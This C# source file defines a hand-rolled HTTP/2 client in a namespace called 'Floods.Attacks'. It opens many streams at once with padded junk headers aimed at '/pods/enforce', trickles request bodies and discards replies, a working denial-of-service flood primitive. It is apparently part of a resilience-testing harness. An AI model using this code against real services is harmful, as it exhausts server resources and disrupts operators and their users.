using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Text;
using PyOps.Floods.Honest;

namespace PyOps.Floods.Attacks;

/// <summary>A connection of HTTP/2 by hand, for what no client of a library sends. What comes is thrown away.</summary>
internal sealed class RawHttp2 : IAsyncDisposable
{
    private const byte EndStream = 1;
    private const byte EndHeaders = 4;
    private readonly SslStream stream;

    private RawHttp2(SslStream stream)
    {
        this.stream = stream;
        Ended = ThrowAway();
    }

    /// <summary>Ends when the server closes.</summary>
    public Task Ended { get; }

    /// <summary>Opens one. Of each answer the server may send as much as the window says, and is never allowed more.</summary>
    public static async Task<RawHttp2> Open(IPAddress from, int port, CancellationToken end, int window = 65_535)
    {
        var tls = await Dial.Tls(from, port, SslApplicationProtocol.Http2, end);
        var preface = new MemoryStream();
        preface.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        preface.Write(Frame(4, 0, 0, [0, 4, .. Number(window)]));
        await tls.WriteAsync(preface.ToArray(), end);
        return new RawHttp2(tls);
    }

    /// <summary>Begins requests whose bodies are to come, all in one write, with so many bytes of headers that mean nothing.</summary>
    public ValueTask Begin(IEnumerable<int> streams, CancellationToken end, int padding = 0) => stream.WriteAsync(
        streams.SelectMany(number => Frame(1, EndHeaders, number, Headers(padding))).ToArray(), end);

    /// <summary>Sends some of each body.</summary>
    public ValueTask Send(IEnumerable<int> streams, byte[] some, bool isAll, CancellationToken end) => stream.WriteAsync(
        streams.SelectMany(number => Frame(0, isAll ? EndStream : (byte)0, number, some)).ToArray(), end);

    public async ValueTask DisposeAsync()
    {
        await stream.DisposeAsync();
        await Ended;
    }

    private static byte[] Headers(int padding)
    {
        List<byte> block = [0x83, 0x87, 0x04, .. Text("/pods/enforce"), 0x01, .. Text("x"), 0x0f, 0x10, .. Text("application/json")];
        for (; padding > 0; padding -= 100)
            block.AddRange([0x00, .. Text("x"), .. Text(new string('x', 100))]);
        return [.. block];
    }

    private static byte[] Text(string text) => [(byte)text.Length, .. Encoding.ASCII.GetBytes(text)];

    private static byte[] Number(int number)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(bytes, number);
        return bytes;
    }

    private static byte[] Frame(byte type, byte flags, int number, byte[] content) =>
        [.. Number(content.Length)[1..], type, flags, .. Number(number), .. content];

    private async Task ThrowAway()
    {
        var buffer = new byte[4096];
        try
        {
            while (await stream.ReadAsync(buffer) > 0)
            {
            }
        }
        catch (Exception closed) when (closed is IOException or ObjectDisposedException)
        {
            // A reset is an end too.
        }
    }
}
